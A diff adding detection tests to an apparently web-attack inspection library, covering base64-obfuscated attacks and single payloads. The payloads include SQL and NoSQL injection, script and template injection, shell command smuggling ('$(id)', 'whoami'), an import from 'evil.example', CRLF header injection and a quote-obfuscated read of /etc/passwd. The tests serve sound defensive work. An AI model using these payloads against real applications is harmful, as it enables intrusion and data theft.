@@ -228,6 +228,16 @@ await t.test('fields are exempt, or read as base64, by their location', async (t
   t.equal(inspect({ body: { data } }, { fields }).attack, true)
   t.equal(inspect({ body: { other: data } }, { fields }).attack, false, 'base64 is not guessed')
   t.equal(inspect({ body: { data: 'no base64!' } }, { fields }).attack, false)
+  const long = Buffer.from(`${attack} ${'and more text '.repeat(9)}`).toString('base64')
+  for (const [how, form] of [
+    ['lines', long.replaceAll(/.{20}/g, '$&\r\n')],
+    ['a blank', `${data.slice(0, 6)} ${data.slice(6)}`],
+    ['a data URL', `data:text/plain;base64,${data}`],
+    ['base64 of base64', Buffer.from(data).toString('base64')],
+    ['UTF-16', Buffer.from(attack, 'utf16le').toString('base64')],
+  ] as const) {
+    t.equal(inspect({ body: { data: form } }, { fields }).attack, true, how)
+  }
 })
 
 await t.test('classes can be left out, and the threshold moved', async (t) => {
@@ -358,6 +368,32 @@ await t.test('a lookup of Log4j is found in every header', async (t) => {
   }
 })
 
+await t.test('single payloads are found', async (t) => {
+  for (const text of [
+    "x' or not false #",
+    '-1 union values row(1,2)',
+    '";import("//evil.example/a")//',
+    'x;node -e 1',
+    '{{dump()}}',
+    '$(id)',
+    '`id`',
+    '<script>alert(1)</script>',
+    "' or true -- ",
+    '#{root.process}',
+    'x & whoami',
+    '{{7*7}}',
+  ]) {
+    t.equal(inspect({ body: { q: text } }).attack, true, text)
+  }
+  for (const url of [
+    '/?u=a%0d%0aContent-Security-Policy:x',
+    '/?u=a%0aStrict-Transport-Security:max-age=0',
+  ])
+    t.equal(inspect({ url }).attack, true, url)
+  t.equal(inspect({ body: { $unionWith: 'users' } }).attack, true)
+  t.equal(inspect({ body: { a: { $sum: 1 } } }).attack, true)
+})
+
 await t.test('a hint counts only as much as the model confirms it', async (t) => {
   const confirmed = inspect(query("1'-@a or'1"))
   t.ok(confirmed.score > 0.3)
@@ -446,6 +482,9 @@ await t.test('long texts as people write them are no attack', async (t) => {
       attack: true,
     },
   )
+  const pad = 'lorem ipsum dolor sit amet '.repeat(400)
+  const quoted = `${pad}${pad}; c''at /e''tc/pa''sswd ${pad}`
+  t.match(inspect({ body: quoted }), { attack: true }, 'a command in quotes in the middle')
 })
 
 await t.test('bodies are read as data, and live objects are left alone', async (t) => {
